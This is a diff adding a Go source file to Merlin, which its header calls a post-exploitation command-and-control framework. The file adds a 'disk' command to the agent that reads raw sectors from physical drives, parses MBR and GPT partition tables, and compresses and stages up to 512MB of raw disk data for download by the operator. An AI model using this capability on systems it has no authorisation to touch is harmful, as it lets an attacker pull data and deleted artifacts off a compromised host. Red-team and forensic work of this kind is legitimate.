@@ -0,0 +1,290 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bytes"
+	"compress/gzip"
+	"encoding/binary"
+	"fmt"
+	"io"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strconv"
+	"strings"
+	"unicode/utf16"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/staging"
+)
+
+const (
+	// diskAlignment is the boundary raw reads are aligned to. Windows requires sector aligned reads from a physical
+	// drive and 4096 covers both 512 byte and 4K native sectors
+	diskAlignment = 4096
+	// diskReadLimit is the most bytes the disk read command returns as a hex dump
+	diskReadLimit = 64 * 1024
+	// diskDumpLimit is the most bytes the disk dump command stages and returns as a file
+	diskDumpLimit = 512 * 1024 * 1024
+)
+
+// mbrPartitionTypes are the names of common MBR partition types
+var mbrPartitionTypes = map[byte]string{
+	0x05: "Extended",
+	0x07: "NTFS/exFAT",
+	0x0b: "FAT32",
+	0x0c: "FAT32 (LBA)",
+	0x0f: "Extended (LBA)",
+	0x27: "Windows Recovery",
+	0x82: "Linux swap",
+	0x83: "Linux",
+	0x8e: "Linux LVM",
+	0xa5: "FreeBSD",
+	0xaf: "Apple HFS/APFS",
+	0xee: "GPT protective",
+	0xef: "EFI System",
+	0xfd: "Linux RAID",
+}
+
+// Disk reads raw sectors from a disk or volume device, such as \\.\PhysicalDrive0 or /dev/sda, to inspect the boot
+// record or recover deleted artifacts. On Windows a drive number alone is the physical drive. Reads are aligned to
+// sector boundaries and limited in size: read returns at most 64KB as a hex dump and dump stages at most 512MB
+// compressed, returning it when it fits in one chunk and otherwise leaving the parts for staging download. The parts
+// are reassembled and decompressed with gunzip
+// disk read <device> <offset> [length]
+// disk dump <device> <offset> <length> [chunk MB]
+// disk mbr <device>
+func Disk(cmd jobs.Command) (results jobs.Results, transfer *jobs.FileTransfer) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Disk() with %+v", cmd))
+	}
+	if len(cmd.Args) < 2 {
+		results.Stderr = "the disk command requires a subcommand and a device"
+		return
+	}
+	device := diskDevice(cmd.Args[1])
+
+	var offset, length int64 = 0, 512
+	var err error
+	if len(cmd.Args) > 2 {
+		if offset, err = strconv.ParseInt(cmd.Args[2], 0, 64); err != nil || offset < 0 {
+			results.Stderr = fmt.Sprintf("%s is not a valid offset", cmd.Args[2])
+			return
+		}
+	}
+	if len(cmd.Args) > 3 {
+		if length, err = strconv.ParseInt(cmd.Args[3], 0, 64); err != nil || length < 1 {
+			results.Stderr = fmt.Sprintf("%s is not a valid length", cmd.Args[3])
+			return
+		}
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "read":
+		if length > diskReadLimit {
+			results.Stderr = fmt.Sprintf("the disk read command is limited to %d bytes, use disk dump for larger ranges", diskReadLimit)
+			return
+		}
+		var data []byte
+		if data, err = diskRead(device, offset, length); err == nil {
+			results.Stdout = fmt.Sprintf("Read %d bytes from %s at offset %d\n", len(data), device, offset) + dumpAt(uint64(offset), data)
+		}
+	case "dump":
+		if len(cmd.Args) < 4 {
+			results.Stderr = "the disk dump command requires a device, an offset, and a length"
+			return
+		}
+		if length > diskDumpLimit {
+			results.Stderr = fmt.Sprintf("the disk dump command is limited to %d bytes", diskDumpLimit)
+			return
+		}
+		chunk := defaultChunkMB
+		if len(cmd.Args) > 4 {
+			if chunk, err = strconv.Atoi(cmd.Args[4]); err != nil || chunk < 1 {
+				results.Stderr = fmt.Sprintf("%s is not a valid chunk size in megabytes", cmd.Args[4])
+				return
+			}
+		}
+		return diskDump(device, offset, length, chunk)
+	case "mbr":
+		results.Stdout, err = diskBootRecord(device)
+	default:
+		results.Stderr = fmt.Sprintf("unknown disk command: %s", cmd.Args[0])
+		return
+	}
+	if err != nil {
+		results.Stderr = err.Error()
+	}
+	return
+}
+
+// diskDevice returns the device path for a Windows drive number or the device as given
+func diskDevice(device string) string {
+	if runtime.GOOS == "windows" {
+		if _, err := strconv.Atoi(device); err == nil {
+			return `\\.\PhysicalDrive` + device
+		}
+	}
+	return device
+}
+
+// diskRead reads length bytes at offset from the device. The read is widened to aligned boundaries and trimmed so
+// the caller can use any offset and length. Fewer bytes are returned if the range runs past the end of the device
+func diskRead(device string, offset, length int64) ([]byte, error) {
+	f, err := os.Open(device) // #nosec G304 Users can include any device they want
+	if err != nil {
+		return nil, fmt.Errorf("there was an error opening %s: %s", device, err)
+	}
+	defer f.Close()
+
+	start := offset - offset%diskAlignment
+	end := offset + length
+	if end%diskAlignment != 0 {
+		end += diskAlignment - end%diskAlignment
+	}
+	buf := make([]byte, end-start)
+	n, err := f.ReadAt(buf, start)
+	if err != nil && err != io.EOF && n == 0 {
+		return nil, fmt.Errorf("there was an error reading %s at offset %d: %s", device, offset, err)
+	}
+	buf = buf[:n]
+	skip := offset - start
+	if skip >= int64(len(buf)) {
+		return nil, fmt.Errorf("offset %d is past the end of %s", offset, device)
+	}
+	buf = buf[skip:]
+	if int64(len(buf)) > length {
+		buf = buf[:length]
+	}
+	return buf, nil
+}
+
+// diskDump reads a range of the device, compresses it in memory, stages it, and returns it as a file transfer when it
+// fits in one chunk
+func diskDump(device string, offset, length int64, chunk int) (results jobs.Results, transfer *jobs.FileTransfer) {
+	data, err := diskRead(device, offset, length)
+	if err != nil {
+		results.Stderr = err.Error()
+		return
+	}
+	var compressed bytes.Buffer
+	zw := gzip.NewWriter(&compressed)
+	if _, err = zw.Write(data); err == nil {
+		err = zw.Close()
+	}
+	if err != nil {
+		results.Stderr = fmt.Sprintf("there was an error compressing the data read from %s: %s", device, err)
+		return
+	}
+
+	name := fmt.Sprintf("%s-%d-%d.bin.gz", strings.Trim(filepath.Base(strings.ReplaceAll(device, `\`, "/")), "."), offset, len(data))
+	id, err := staging.Add(name, compressed.Bytes())
+	if err != nil {
+		results.Stderr = fmt.Sprintf("there was an error staging the data read from %s: %s", device, err)
+		return
+	}
+	results.Stdout = fmt.Sprintf("Read %d bytes from %s at offset %d, compressed to %d bytes\n", len(data), device, offset, compressed.Len())
+	summary, transfer := stageTransfer(name, id, compressed.Bytes(), chunk)
+	results.Stdout += summary + "Reassemble the parts in order, verify the hash, and decompress the data with gunzip"
+	return results, transfer
+}
+
+// diskBootRecord parses the master boot record in the first sector of the device and, for a GPT disk, the GPT header
+// and partition entries
+func diskBootRecord(device string) (string, error) {
+	mbr, err := diskRead(device, 0, 512)
+	if err != nil {
+		return "", err
+	}
+	if len(mbr) < 512 || mbr[510] != 0x55 || mbr[511] != 0xaa {
+		return "", fmt.Errorf("%s does not have a master boot record signature", device)
+	}
+
+	var out strings.Builder
+	fmt.Fprintf(&out, "Master boot record of %s, disk signature %08x:\n", device, binary.LittleEndian.Uint32(mbr[440:]))
+	gpt := false
+	for i := 0; i < 4; i++ {
+		entry := mbr[446+i*16 : 446+(i+1)*16]
+		kind := entry[4]
+		if kind == 0 {
+			continue
+		}
+		gpt = gpt || kind == 0xee
+		name := mbrPartitionTypes[kind]
+		if name == "" {
+			name = "unknown"
+		}
+		fmt.Fprintf(&out, "\tPartition %d: type 0x%02x (%s), bootable %t, start LBA %d, sectors %d\n",
+			i+1, kind, name, entry[0] == 0x80, binary.LittleEndian.Uint32(entry[8:]), binary.LittleEndian.Uint32(entry[12:]))
+	}
+	if gpt {
+		table, err := diskGPT(device)
+		if err != nil {
+			fmt.Fprintf(&out, "there was an error reading the GPT: %s\n", err)
+		}
+		out.WriteString(table)
+	}
+	return out.String(), nil
+}
+
+// diskGPT parses the GPT header in the second sector of the device, trying 512 byte and then 4K sectors, and lists
+// its partition entries
+func diskGPT(device string) (string, error) {
+	for _, sector := range []int64{512, 4096} {
+		header, err := diskRead(device, sector, 92)
+		if err != nil {
+			return "", err
+		}
+		if len(header) < 92 || string(header[:8]) != "EFI PART" {
+			continue
+		}
+		entriesLBA := int64(binary.LittleEndian.Uint64(header[72:]))
+		count := binary.LittleEndian.Uint32(header[80:])
+		size := binary.LittleEndian.Uint32(header[84:])
+		if size < 128 || size > 1024 || count > 256 {
+			return "", fmt.Errorf("the GPT header has an invalid partition entry size %d or count %d", size, count)
+		}
+		var out strings.Builder
+		fmt.Fprintf(&out, "GUID partition table, sector size %d, disk GUID %s:\n", sector, guidString(header[56:72]))
+		entries, err := diskRead(device, entriesLBA*sector, int64(count*size))
+		if err != nil {
+			return out.String(), err
+		}
+		for i := 0; i < int(count) && (i+1)*int(size) <= len(entries); i++ {
+			entry := entries[i*int(size) : (i+1)*int(size)]
+			if bytes.Equal(entry[:16], make([]byte, 16)) {
+				continue
+			}
+			name := make([]uint16, 36)
+			for j := range name {
+				name[j] = binary.LittleEndian.Uint16(entry[56+j*2:])
+			}
+			fmt.Fprintf(&out, "\tPartition %d: %q, type %s, first LBA %d, last LBA %d\n", i+1,
+				strings.TrimRight(string(utf16.Decode(name)), "\x00"), guidString(entry[:16]),
+				binary.LittleEndian.Uint64(entry[32:]), binary.LittleEndian.Uint64(entry[40:]))
+		}
+		return out.String(), nil
+	}
+	return "", fmt.Errorf("%s does not have a GPT header", device)
+}